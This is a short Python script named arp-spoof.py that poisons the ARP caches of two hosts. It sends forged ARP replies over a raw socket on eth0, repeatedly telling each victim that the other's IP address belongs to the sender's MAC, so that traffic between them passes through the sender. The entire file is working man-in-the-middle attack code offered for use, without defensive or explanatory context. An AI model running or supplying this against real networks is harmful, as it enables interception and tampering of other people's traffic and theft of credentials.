"""Tells two stations that the other's address is here. arp-spoof.py OWN-MAC A-ADDRESS A-MAC B-ADDRESS B-MAC ROUNDS SECONDS"""

import socket
import struct
import sys
import time


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def reply(own, claimed, target_mac, target):
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + socket.inet_aton(claimed) + target_mac + socket.inet_aton(target)
    return target_mac + own + b"\x08\x06" + arp


own, a, a_mac, b, b_mac, rounds, gap = sys.argv[1:]
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind(("eth0", 0))
for _ in range(int(rounds)):
    sock.send(reply(mac(own), b, mac(a_mac), a))
    sock.send(reply(mac(own), a, mac(b_mac), b))
    time.sleep(float(gap))
